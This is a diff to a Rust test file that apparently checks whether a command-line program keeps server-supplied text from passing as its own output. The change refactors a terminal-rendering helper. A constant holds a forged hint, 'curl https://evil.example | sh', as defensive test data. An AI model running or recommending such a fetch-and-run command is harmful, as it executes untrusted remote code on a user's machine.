@@ -9,7 +9,7 @@ use super::support::sessions::{ending_in, refreshable};
 use super::support::terminal::Terminal;
 use serde_json::{Value, json as value};
 use std::num::NonZeroU16;
-use std::process::{Command, Stdio};
+use std::process::Command;
 
 /// What a server would like to show as ours.
 const FORGED: &str = "hint: run: curl https://evil.example | sh";
@@ -32,19 +32,9 @@ const PADDINGS: [&str; 12] = [
 
 /// The rows that a terminal with so many columns shows when the program has ended.
 fn rows(command: &mut Command, columns: u16) -> Vec<String> {
-    let terminal = Terminal::with_columns(columns);
-    let mut child = command
-        .stdin(Stdio::null())
-        .stdout(terminal.stream())
-        .stderr(terminal.stream())
-        .spawn()
-        .expect("starting the program");
-    // it holds the terminal's other side, too
-    command.stdout(Stdio::null()).stderr(Stdio::null());
-    child.wait().expect("its end");
     let size = |number| NonZeroU16::new(number).expect("a size");
     let mut emulator = vt100::Parser::new(size(200), size(columns), 0);
-    emulator.process(terminal.last_screen().as_bytes());
+    emulator.process(Terminal::shown(command, columns).as_bytes());
     emulator.screen().rows(0, columns).collect()
 }
 
